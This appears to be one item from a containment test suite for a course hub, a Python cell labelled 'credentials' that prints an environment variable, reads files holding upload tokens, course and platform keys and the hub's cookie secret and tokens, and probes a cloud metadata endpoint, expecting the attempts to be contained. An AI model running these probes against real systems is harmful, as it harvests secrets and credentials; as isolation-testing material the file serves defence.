# /// technique
# number = ["67"]
# title = "credentials"
# how = "Keys and tokens are looked for in the environment, in files of course and hub, and at a metadata service."
# wanted = "contained"
# ///

# %% own
import urllib.request

print({name: value for name, value in os.environ.items() if name == KNOWN["variable"]})
for what in ("an upload token", "the course key", "the key for a learning platform", "the hub's cookie secret"):
    loot(KNOWN["files"][what])
for what in ("the hub's tokens", "the hub's invitations"):
    loot(KNOWN["files"][what])
attempt(
    "reach a metadata service",
    lambda: urllib.request.urlopen("http://%s:%d/latest/meta-data" % tuple(KNOWN["tcp"]), timeout=2),
)
